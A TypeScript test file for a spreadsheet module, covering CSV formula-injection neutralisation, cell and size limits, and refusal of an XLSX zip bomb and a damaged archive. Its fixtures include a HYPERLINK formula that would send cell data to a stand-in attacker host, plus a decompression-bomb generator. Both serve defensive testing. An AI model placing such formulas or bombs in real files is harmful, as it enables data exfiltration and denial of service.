import { describe, expect, it } from 'vitest';
import { part, xlsxBomb, zipArchive } from '../../../test/helpers/zip.js';
import { Invalid } from '../../platform/errors.js';
import { writeCsv } from './csv.js';
import { DEFAULT_SHEET_LIMITS } from './limits.js';
import { neutraliseCell, readCsvTable, readXlsxTable, restoreCell } from './sheet-table.js';

/** The problems of what `run` throws: an Invalid, or the test fails. */
async function problemsOf(run: () => unknown) {
  try {
    await run();
  } catch (error) {
    expect(error).toBeInstanceOf(Invalid);
    return (error as Invalid).problems;
  }
  throw new Error('expected the input to be refused');
}

describe('neutraliseCell and restoreCell', () => {
  const TEXTS = [
    '=1+2',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '+1',
    '-2',
    '@SUM(A1)',
    '\tcmd',
    '\rcmd',
    "'already quoted",
    "''two quotes",
    "'",
    '',
    'plain',
    'a=b',
    ' =leading space',
  ];

  it('puts a quote before a cell a spreadsheet would run, or one starting with a quote', () => {
    expect(neutraliseCell('=1+2')).toBe("'=1+2");
    expect(neutraliseCell('\tcmd')).toBe("'\tcmd");
    expect(neutraliseCell("'x")).toBe("''x");
    expect(neutraliseCell('plain')).toBe('plain');
    expect(neutraliseCell('a=b')).toBe('a=b');
    for (const text of TEXTS.filter((t) => /^[=+\-@\t\r]/.test(t)))
      expect(neutraliseCell(text)).toMatch(/^'[=+\-@\t\r]/);
  });

  it('gives every string back as it was', () => {
    for (const text of TEXTS) expect(restoreCell(neutraliseCell(text))).toBe(text);
  });

  it('survives CSV: written, read as a table, the text comes back', () => {
    const rows = [['Name', 'Description'], ...TEXTS.map((t, i) => [`c${i}`, neutraliseCell(t)])];
    const table = readCsvTable(writeCsv(rows));
    // Import trims cells; a neutralised cell keeps the tab or carriage return it starts with.
    const read = new Map(table.rows.map((r) => [r.cells.Name, r.cells.Description ?? '']));
    TEXTS.forEach((text, i) => {
      expect(read.get(`c${i}`)).toBe(text.startsWith(' ') ? text.trim() : text);
    });
  });
});

describe('spreadsheet limits', () => {
  it('refuses a CSV file with more cells than the limit, naming the row', async () => {
    const csv = `Name,Description\n${'a,b\n'.repeat(100)}`;
    expect(
      readCsvTable(csv, undefined, { ...DEFAULT_SHEET_LIMITS, maxCells: 202 }).rows,
    ).toHaveLength(100);
    const problems = await problemsOf(() =>
      readCsvTable(csv, undefined, { ...DEFAULT_SHEET_LIMITS, maxCells: 150 }),
    );
    expect(problems).toEqual([
      { field: 'rows[76]', reason: expect.stringContaining('more than 150 cells') },
    ]);
    // A single line of separators is cells too, stopped while it is read.
    const wide = await problemsOf(() =>
      readCsvTable(`Name\n${','.repeat(1_000_000)}`, undefined, {
        ...DEFAULT_SHEET_LIMITS,
        maxCells: 1000,
      }),
    );
    expect(wide).toEqual([{ field: 'rows[2]', reason: expect.stringContaining('1,000 cells') }]);
  });

  it('refuses an XLSX file over the cell limit, counting blanks between filled cells', async () => {
    const xlsx = zipArchive([
      part(
        'xl/worksheets/sheet1.xml',
        '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>' +
          '<row r="2"><c r="Z2" t="inlineStr"><is><t>a</t></is></c></row></sheetData></worksheet>',
      ),
    ]);
    // Row 2 is 26 cells (Z is column 26): 27 with the header.
    expect(
      (await readXlsxTable(xlsx, undefined, { ...DEFAULT_SHEET_LIMITS, maxCells: 27 })).rows,
    ).toHaveLength(0);
    const problems = await problemsOf(() =>
      readXlsxTable(xlsx, undefined, { ...DEFAULT_SHEET_LIMITS, maxCells: 20 }),
    );
    expect(problems).toEqual([
      { field: 'rows[2]', reason: expect.stringContaining('more than 20 cells') },
    ]);
  });

  it('refuses a shared string repeated in many cells once its text passes the limit', async () => {
    const long = 'x'.repeat(10_000);
    const cell = '<c t="s"><v>1</v></c>';
    const rows = Array.from({ length: 50 }, (_, i) => `<row r="${i + 2}">${cell}</row>`).join('');
    const xlsx = zipArchive([
      part('xl/sharedStrings.xml', `<sst><si><t>Name</t></si><si><t>${long}</t></si></sst>`),
      part(
        'xl/worksheets/sheet1.xml',
        `<worksheet><sheetData><row r="1"><c t="s"><v>0</v></c></row>${rows}</sheetData></worksheet>`,
      ),
    ]);
    // About 11 KB inflated; 500,000 characters once every cell holds the string: row 12 passes 100,000.
    const problems = await problemsOf(() =>
      readXlsxTable(xlsx, undefined, { ...DEFAULT_SHEET_LIMITS, maxInflatedBytes: 100_000 }),
    );
    expect(problems).toEqual([
      { field: 'rows[12]', reason: expect.stringContaining('of text by this row') },
    ]);
  });

  it('refuses, with the default limits, the reported file: 300 KB inflating to 300 MB', async () => {
    const bomb = await xlsxBomb(300);
    expect(bomb.length).toBeLessThan(400 * 1024);
    const problems = await problemsOf(() => readXlsxTable(bomb));
    expect(problems).toEqual([
      {
        field: 'xl/worksheets/sheet1.xml',
        reason: expect.stringContaining('inflates to more than 200.0 MB'),
      },
    ]);
  }, 60_000);

  it('answers a damaged archive as a problem of the file, not a crash', async () => {
    const problems = await problemsOf(() =>
      readXlsxTable(Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(100)])),
    );
    expect(problems[0]).toEqual({
      field: 'rows[1]',
      reason: expect.stringContaining('the XLSX file cannot be read'),
    });
  });
});
